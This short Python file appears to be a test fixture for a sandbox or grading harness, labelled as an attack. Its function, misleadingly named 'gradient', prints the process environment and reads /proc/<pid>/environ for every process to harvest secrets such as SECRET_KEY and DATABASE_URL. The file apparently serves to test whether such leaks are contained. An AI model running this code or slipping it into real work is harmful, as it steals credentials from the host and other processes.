# expect-reason: ok
# attack: dump every environment the process can see, looking for SECRET_KEY, DATABASE_URL...
import os


def gradient(out):
    print(dict(os.environ))
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                with open(f"/proc/{pid}/environ", "rb") as handle:
                    print(pid, handle.read())
            except OSError as error:
                print(pid, error)
    return dict(os.environ)
